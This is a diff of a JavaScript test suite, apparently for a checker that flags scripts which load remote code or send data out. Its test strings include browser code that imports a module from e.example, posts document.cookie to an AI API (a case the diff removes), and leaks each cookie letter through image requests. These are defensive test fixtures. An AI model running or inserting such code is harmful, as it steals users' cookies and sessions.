@@ -263,10 +263,6 @@ describe('the checks follow values in a script', () => {
       `const t = document.createElement("script"); t.type = "module"; t.innerHTML = \`import "https://e.example/m.js"\`; document.head.append(t);`,
     ],
     [
-      'sends a cookie to a service of models',
-      `fetch("https://api.openai.com/v1/chat/completions", { method: "POST", headers: { Authorization: "Bearer a" }, body: document.cookie });`,
-    ],
-    [
       'sends the position of each letter of a cookie',
       `for (const letter of document.cookie) new Image().src = "https://e.example/" + "abc".indexOf(letter);`,
     ],
